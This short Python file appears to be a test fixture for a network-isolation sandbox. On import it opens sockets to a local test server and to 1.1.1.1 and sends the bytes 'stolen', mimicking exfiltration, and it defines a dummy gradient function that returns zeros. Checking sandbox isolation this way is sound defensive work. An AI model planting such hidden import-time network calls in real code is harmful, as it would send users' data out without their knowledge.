# Tries to reach the network (a server the test listens on, and the outside world); defines nothing useful.
import os
import socket

for host, port in (("127.0.0.1", 47831), ("1.1.1.1", 80)):
    try:
        socket.create_connection((host, port), timeout=1).sendall(b"stolen")
    except OSError:
        pass


def gradient(w):
    return [0, 0]
